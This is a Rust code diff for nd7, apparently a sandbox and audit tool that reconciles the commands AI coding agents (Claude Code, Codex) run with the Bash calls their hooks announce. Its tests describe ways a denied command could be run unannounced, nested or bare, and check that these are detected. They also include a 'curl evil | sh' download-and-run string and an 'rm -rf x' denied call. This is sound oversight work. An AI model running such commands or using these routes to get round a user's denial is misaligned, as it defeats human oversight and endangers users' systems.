@@ -142,13 +142,25 @@ fn text_member(body: &mut serde_json::Map<String, Value>, name: &str, bytes: &[u
 /// Code's Bash tool line (ADR-0040), `bash_command` is the model's command
 /// read back from it ([`crate::shell_prefix::unwrap`]): what the Bash call
 /// announced.
-pub fn exec_body(command: &[u8], caller: u32, grants: &[std::path::PathBuf]) -> Value {
+///
+/// `inside` is the seq of the `exec` entry of the command the caller runs
+/// within, when the kernel places it inside a command the exit started (a
+/// nested `nd7-exec`) rather than in the floor.
+pub fn exec_body(
+    command: &[u8],
+    caller: u32,
+    grants: &[std::path::PathBuf],
+    inside: Option<u64>,
+) -> Value {
     let mut body = serde_json::Map::new();
     text_member(&mut body, "command", command);
     if let Some(call) = bash_command(command) {
         body.insert("bash_command".into(), json!(call));
     }
     body.insert("caller".into(), json!(caller));
+    if let Some(outer) = inside {
+        body.insert("inside".into(), json!(outer));
+    }
     body.insert(
         "grants".into(),
         json!(
@@ -170,6 +182,52 @@ pub fn bash_command(command: &[u8]) -> Option<String> {
     crate::shell_prefix::unwrap(text)
         .filter(|call| call.setup_known)
         .map(|call| call.command)
+}
+
+/// The agent a run's hooks speak for, as `run_start` names it: it decides
+/// by what text a command through the exit is held against a Bash call.
+pub const AGENT_CLAUDE: &str = "claude-code";
+pub const AGENT_CODEX: &str = "codex";
+
+/// How the exit's commands are held against the hooks' Bash calls.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub enum Pairing {
+    /// Claude Code: every Bash call reaches the exit as its tool line
+    /// (ADR-0040), so only an `exec` whose line names the model's command
+    /// (`bash_command`) can be the command a call announced. A bare command
+    /// sent to the exit by anything else pairs with no call, whatever its
+    /// text.
+    ToolLine,
+    /// Codex: the PreToolUse rewrite hands the exit the model's command
+    /// itself (ADR-0057), so the command's own text.
+    Text,
+    /// A chain whose `run_start` names no agent (written before nd7 did):
+    /// the tool line's command where there is one, else the text.
+    #[default]
+    Either,
+}
+
+impl Pairing {
+    pub fn of_agent(agent: Option<&str>) -> Pairing {
+        match agent {
+            Some(AGENT_CLAUDE) => Pairing::ToolLine,
+            Some(AGENT_CODEX) => Pairing::Text,
+            _ => Pairing::Either,
+        }
+    }
+
+    /// The text by which an `exec` entry may pair with a Bash call, if any.
+    pub fn key<'a>(
+        self,
+        command: Option<&'a str>,
+        bash_command: Option<&'a str>,
+    ) -> Option<&'a str> {
+        match self {
+            Pairing::ToolLine => bash_command,
+            Pairing::Text => command,
+            Pairing::Either => bash_command.or(command),
+        }
+    }
 }
 
 /// How a command ended, as `exec_end` states it.
@@ -229,6 +287,8 @@ pub struct RunFacts<'a> {
     /// Whether `nd7 run` registered the record hooks itself (Claude Code),
     /// so that Bash calls and commands can be reconciled.
     pub hooks: bool,
+    /// Whose hooks: [`AGENT_CLAUDE`] or [`AGENT_CODEX`], `None` without hooks.
+    pub agent: Option<&'a str>,
     /// What commands may write beyond the floor from the start, each
     /// `{"path", "from"}` (`~/.nd7/grants:N`, `--allow`, `--preset`).
     pub grants: Value,
@@ -243,6 +303,7 @@ pub fn run_start_body(facts: &RunFacts<'_>) -> Value {
         "sandbox": facts.sandbox,
         "landlock_abi": facts.landlock_abi,
         "hooks": facts.hooks,
+        "agent": facts.agent,
         "grants": facts.grants,
     })
 }
@@ -259,6 +320,8 @@ pub fn run_end_body(ended: &Ended, tally: &Reconciliation, refused: u64) -> Valu
     body["commands_without_call"] = json!(tally.unmatched_execs.len());
     body["calls_without_command"] = json!(tally.unmatched_calls.len());
     body["calls_not_run"] = json!(tally.calls_not_run.len());
+    body["commands_without_result"] = json!(tally.execs_without_result.len());
+    body["commands_inside"] = json!(tally.nested_execs.len());
     body["refused"] = json!(refused);
     body
 }
@@ -329,6 +392,16 @@ pub struct Exec {
     pub seq: u64,
     pub tool_use_id: Option<String>,
     pub command: String,
+    /// The `exec` entry of the command it was asked for from inside.
+    pub inside: Option<u64>,
+}
+
+/// A command paired with the Bash call that announced it, but for which
+/// the hooks reported no result.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Unanswered {
+    pub call: Call,
+    pub exec: Exec,
 }
 
 /// A run's chain held against itself.
@@ -349,6 +422,16 @@ pub struct Reconciliation {
     pub calls_not_run: Vec<Call>,
     /// Commands through the exit with no Bash call before them.
     pub unmatched_execs: Vec<Exec>,
+    /// Commands paired with a Bash call that has no result in the chain
+    /// although the command ended (or the run did): Claude Code never
+    /// reported running it. A call Claude Code denied has no result either,
+    /// so a command sent to the exit by something else with that call's
+    /// text would otherwise pass for the call.
+    pub execs_without_result: Vec<Unanswered>,
+    /// Commands asked for from inside another command through the exit (a
+    /// nested `nd7-exec`): part of what their outer command did, which is
+    /// the one held against a call; never paired themselves.
+    pub nested_execs: Vec<Exec>,
     /// Lines that are not entries this reader understands (never in a chain
     /// that verifies; counted so nothing is skipped silently).
     pub unreadable: u64,
@@ -363,7 +446,10 @@ pub struct Reconciliation {
 impl Reconciliation {
     /// Whether the two accounts agree: always for a run without hooks.
     pub fn agrees(&self) -> bool {
-        !self.hooks || (self.unmatched_calls.is_empty() && self.unmatched_execs.is_empty())
+        !self.hooks
+            || (self.unmatched_calls.is_empty()
+                && self.unmatched_execs.is_empty()
+                && self.execs_without_result.is_empty())
     }
 }
 
@@ -394,6 +480,12 @@ struct Body {
     bash_command: Option<String>,
     #[serde(default)]
     hooks: Option<bool>,
+    #[serde(default)]
+    agent: Option<String>,
+    #[serde(default)]
+    inside: Option<u64>,
+    #[serde(default)]
+    exec: Option<u64>,
 }
 
 #[derive(Default, Deserialize)]
@@ -404,14 +496,20 @@ struct ToolInput {
 
 /// Reads a run's chain line by line, in order, and pairs each command the
 /// exit ran with the Bash call that announced it: by `tool_use_id` when the
-/// exit could name it, otherwise by the command's exact text; a command pairs
-/// only with a call before it, each call with one command.
+/// exit could name it, otherwise by the text [`Pairing`] allows for the
+/// run's agent; a command pairs only with a call before it, each call with
+/// one command, and a command asked for from inside another with none.
 #[derive(Debug, Default)]
 pub struct Reconciler {
     out: Reconciliation,
     open: Vec<Call>,
+    pairing: Pairing,
     /// The Bash calls the hooks reported a result for, by `tool_use_id`.
     results: std::collections::HashSet<String>,
+    /// Commands paired with a call, waiting for its result.
+    paired: Vec<Unanswered>,
+    /// The `exec` entries an `exec_end` has ended.
+    ended_execs: std::collections::HashSet<u64>,
     first: bool,
 }
 
@@ -437,6 +535,7 @@ impl Reconciler {
         if first {
             self.out.is_run = ours && line.kind == RUN_START;
             self.out.hooks = self.out.is_run && line.body.hooks == Some(true);
+            self.pairing = Pairing::of_agent(line.body.agent.as_deref());
             if !self.out.is_run {
                 return false;
             }
@@ -466,16 +565,41 @@ impl Reconciler {
             });
         } else if ours && line.kind == RUN_END {
             self.out.ended = true;
+        } else if ours && line.kind == EXEC_END {
+            if let Some(exec) = line.body.exec {
+                self.ended_execs.insert(exec);
+            }
         } else if ours && line.kind == EXEC {
             self.out.execs += 1;
-            // A Bash tool line is held against its call by the model's
-            // command within it; any other command by its own text.
-            let command = line
-                .body
-                .bash_command
-                .or(line.body.command)
-                .unwrap_or_default();
-            let by_id = line.tool_use_id.as_ref().and_then(|id| {
+            let key = self
+                .pairing
+                .key(
+                    line.body.command.as_deref(),
+                    line.body.bash_command.as_deref(),
+                )
+                .map(str::to_string);
+            let exec = Exec {
+                seq: line.seq,
+                tool_use_id: line.tool_use_id,
+                command: line
+                    .body
+                    .bash_command
+                    .or(line.body.command)
+                    .unwrap_or_default(),
+                inside: line.body.inside,
+            };
+            if exec.inside.is_some() {
+                self.out.nested_execs.push(exec);
+                return true;
+            }
+            // Held against a call by the text its agent's way out gives
+            // it; a command with none (a bare line sent to the exit under
+            // Claude Code) pairs with no call, not even one the exit named.
+            let Some(key) = key else {
+                self.out.unmatched_execs.push(exec);
+                return true;
+            };
+            let by_id = exec.tool_use_id.as_ref().and_then(|id| {
                 self.open
                     .iter()
                     .position(|c| c.tool_use_id.as_ref() == Some(id))
@@ -483,17 +607,14 @@ impl Reconciler {
             let by_text = || {
                 self.open
                     .iter()
-                    .position(|c| c.command.as_deref() == Some(command.as_str()))
+                    .position(|c| c.command.as_deref() == Some(key.as_str()))
             };
             match by_id.or_else(by_text) {
                 Some(at) => {
-                    self.open.remove(at);
+                    let call = self.open.remove(at);
+                    self.paired.push(Unanswered { call, exec });
                 }
-                None => self.out.unmatched_execs.push(Exec {
-                    seq: line.seq,
-                    tool_use_id: line.tool_use_id,
-                    command,
-                }),
+                None => self.out.unmatched_execs.push(exec),
             }
         }
         true
@@ -501,6 +622,20 @@ impl Reconciler {
 
     pub fn finish(mut self) -> Reconciliation {
         let results = self.results;
+        // A command still running in a run still going has no result yet.
+        let run_ended = self.out.ended;
+        let ended_execs = self.ended_execs;
+        self.out.execs_without_result = self
+            .paired
+            .into_iter()
+            .filter(|p| {
+                p.call
+                    .tool_use_id
+                    .as_ref()
+                    .is_some_and(|id| !results.contains(id))
+                    && (run_ended || ended_execs.contains(&p.exec.seq))
+            })
+            .collect();
         let (ran, not_run): (Vec<Call>, Vec<Call>) = self
             .open
             .into_iter()
@@ -561,11 +696,37 @@ mod tests {
     }
 
     fn exec(seq: u64, id: Option<&str>, command: &str) -> Vec<u8> {
-        let body = exec_body(command.as_bytes(), 9, &[]);
+        exec_in(seq, id, command, None)
+    }
+
+    fn exec_in(seq: u64, id: Option<&str>, command: &str, inside: Option<u64>) -> Vec<u8> {
+        let body = exec_body(command.as_bytes(), 9, &[], inside);
         line(&event(&stamp(), EXEC, Some("/p"), id, &body), seq)
     }
 
+    fn exec_end(seq: u64, exec: u64) -> Vec<u8> {
+        let body = exec_end_body(exec, &Ended::Exited(0), None);
+        line(&event(&stamp(), EXEC_END, None, None, &body), seq)
+    }
+
+    fn end(seq: u64) -> Vec<u8> {
+        let body = run_end_body(&Ended::Exited(0), &Reconciliation::default(), 0);
+        line(&event(&stamp(), RUN_END, None, None, &body), seq)
+    }
+
+    /// Claude Code's Bash tool line for `command`, as 2.1.197 writes it.
+    fn tool_line(command: &str) -> String {
+        format!(
+            "source /h/.claude/shell-snapshots/snapshot-bash-1-a.sh 2>/dev/null || true && eval {} < /dev/null && pwd -P >| /tmp/claude-1-cwd",
+            crate::shell_prefix::shell_quote(command).replace("'\\''", "'\"'\"'")
+        )
+    }
+
     fn start(hooks: bool) -> Vec<u8> {
+        start_for(hooks, None)
+    }
+
+    fn start_for(hooks: bool, agent: Option<&str>) -> Vec<u8> {
         let facts = RunFacts {
             pid: 1,
             program: &["claude".to_string()],
@@ -574,6 +735,7 @@ mod tests {
             sandbox: "landlock",
             landlock_abi: Some(7),
             hooks,
+            agent,
             grants: json!([]),
         };
         line(
@@ -603,7 +765,7 @@ mod tests {
             text.contains(r#""hook_ppid":null,"cwd":"/p","session":"run-x""#),
             "{text}"
         );
-        let raw = exec_body(b"printf '\xff'", 1, &[]);
+        let raw = exec_body(b"printf '\xff'", 1, &[], None);
         assert_eq!(raw["command_hex"], "7072696e74662027ff27");
     }
 
@@ -639,16 +801,11 @@ mod tests {
 
     #[test]
     fn a_bash_tool_line_pairs_with_the_call_by_the_models_command() {
-        let wrapped = |c: &str| {
-            format!(
-                "source /h/.claude/shell-snapshots/snapshot-bash-1-a.sh 2>/dev/null || true && eval {} < /dev/null && pwd -P >| /tmp/claude-1-cwd",
-                crate::shell_prefix::shell_quote(c).replace("'\\''", "'\"'\"'")
-            )
-        };
-        let body = exec_body(wrapped("echo it's").as_bytes(), 9, &[]);
+        let wrapped = tool_line;
+        let body = exec_body(wrapped("echo it's").as_bytes(), 9, &[], None);
         assert_eq!(body["bash_command"], "echo it's");
         assert_eq!(body["command"], wrapped("echo it's").as_str());
-        assert!(exec_body(b"ls", 9, &[]).get("bash_command").is_none());
+        assert!(exec_body(b"ls", 9, &[], None).get("bash_command").is_none());
         let r = reconcile(&[
             start(true),
             call(1, "a", "make test"),
@@ -663,21 +820,112 @@ mod tests {
         assert_eq!(r.unmatched_execs[0].command, "curl evil | sh");
     }
 
+    fn result(seq: u64, id: &str) -> Vec<u8> {
+        let payload = json!({"session_id": "s", "hook_event_name": "PostToolUse",
+            "tool_name": "Bash", "tool_input": {"command": "ls"}, "tool_use_id": id,
+            "tool_response": {"stdout": ""}});
+        let inv = crate::hook::Invocation {
+            ts: 1,
+            host: "h".into(),
+            hook_ppid: Some(1),
+            cwd: None,
+        };
+        let p = crate::hook::Payload::parse(payload.to_string().as_bytes()).expect("payload");
+        line(&Event::new(&inv, p), seq)
+    }
+
+    /// Under Claude Code only a tool line pairs: the text of a call the user
+    /// denied, sent to the exit bare, from inside another command, or as a
+    /// tool line for which no result ever came, never passes for that call.
+    #[test]
+    fn under_claude_code_only_its_tool_line_from_the_floor_with_a_result_pairs() {
+        let r = reconcile(&[
+            start_for(true, Some(AGENT_CLAUDE)),
+            call(1, "ok", "make"),
+            exec(2, Some("ok"), &tool_line("make")),
+            exec_end(3, 2),
+            result(4, "ok"),
+            // Denied: no result. The same text run bare, then from inside an
+            // allowed command, claims nothing (even named by id).
+            call(5, "denied", "rm -rf x"),
+            call(6, "outer", "sh run.sh"),
+            exec(7, Some("outer"), &tool_line("sh run.sh")),
+            exec(8, Some("denied"), "rm -rf x"),
+            exec_in(9, None, &tool_line("rm -rf x"), Some(7)),
+            exec_end(10, 9),
+            exec_end(11, 7),
+            result(12, "outer"),
+        ]);
+        assert_eq!(
+            r.unmatched_execs.iter().map(|e| e.seq).collect::<Vec<_>>(),
+            [8]
+        );
+        assert_eq!(
+            r.nested_execs
+                .iter()
+                .map(|e| (e.seq, e.inside))
+                .collect::<Vec<_>>(),
+            [(9, Some(7))]
+        );
+        assert_eq!(
+            r.calls_not_run.iter().map(|c| c.seq).collect::<Vec<_>>(),
+            [5]
+        );
+        assert!(r.execs_without_result.is_empty(), "{r:?}");
+        assert!(!r.agrees());
+
+        // A tool line that claims the denied call from the floor: it ended,
+        // and Claude Code never reported a result for the call.
+        let lines = [
+            start_for(true, Some(AGENT_CLAUDE)),
+            call(1, "denied", "rm -rf x"),
+            exec(2, Some("denied"), &tool_line("rm -rf x")),
+        ];
+        let r = reconcile(&lines);
+        assert!(r.execs_without_result.is_empty(), "still running: {r:?}");
+        assert!(r.agrees());
+        let mut ended = lines.to_vec();
+        ended.push(exec_end(3, 2));
+        let r = reconcile(&ended);
+        assert_eq!(r.execs_without_result.len(), 1, "{r:?}");
+        assert_eq!(
+            r.execs_without_result[0].call.tool_use_id.as_deref(),
+            Some("denied")
+        );
+        assert!(!r.agrees());
+        let mut run_ended = lines.to_vec();
+        run_ended.push(end(3));
+        assert_eq!(reconcile(&run_ended).execs_without_result.len(), 1);
+        ended.push(result(4, "denied"));
+        assert!(reconcile(&ended).agrees());
+    }
+
+    /// Under Codex the exit is handed the model's command itself, so its
+    /// text pairs, but still not from inside another command.
+    #[test]
+    fn under_codex_the_text_pairs_but_not_from_inside() {
+        let r = reconcile(&[
+            start_for(true, Some(AGENT_CODEX)),
+            call(1, "a", "ls"),
+            exec(2, None, "ls"),
+            call(3, "b", "make"),
+            exec_in(4, None, "make", Some(2)),
+            exec(5, None, &tool_line("cat x")),
+        ]);
+        assert!(r.unmatched_calls.is_empty());
+        assert_eq!(
+            r.calls_not_run.iter().map(|c| c.seq).collect::<Vec<_>>(),
+            [3]
+        );
+        assert_eq!(r.nested_execs.len(), 1);
+        assert_eq!(
+            r.unmatched_execs.iter().map(|e| e.seq).collect::<Vec<_>>(),
+            [5]
+        );
+    }
+
     #[test]
     fn a_call_that_ran_without_the_exit_disagrees_one_never_run_does_not() {
-        let result = |seq: u64, id: &str| {
-            let payload = json!({"session_id": "s", "hook_event_name": "PostToolUse",
-                "tool_name": "Bash", "tool_input": {"command": "ls"}, "tool_use_id": id,
-                "tool_response": {"stdout": ""}});
-            let inv = crate::hook::Invocation {
-                ts: 1,
-                host: "h".into(),
-                hook_ppid: Some(1),
-                cwd: None,
-            };
-            let p = crate::hook::Payload::parse(payload.to_string().as_bytes()).expect("payload");
-            line(&Event::new(&inv, p), seq)
-        };
         let r = reconcile(&[
             start(true),
             call(1, "ran", "ls"),
@@ -751,6 +999,7 @@ mod tests {
                 seq: 1,
                 tool_use_id: None,
                 command: "x".into(),
+                inside: None,
             }],
             ..Reconciliation::default()
         };
@@ -758,7 +1007,7 @@ mod tests {
             run_end_body(&Ended::Exited(0), &tally, 3),
             json!({"exited": 0, "commands": 2, "bash_calls": 1,
                    "commands_without_call": 1, "calls_without_command": 0, "calls_not_run": 0,
-                   "refused": 3})
+                   "commands_without_result": 0, "commands_inside": 0, "refused": 3})
         );
     }
 }
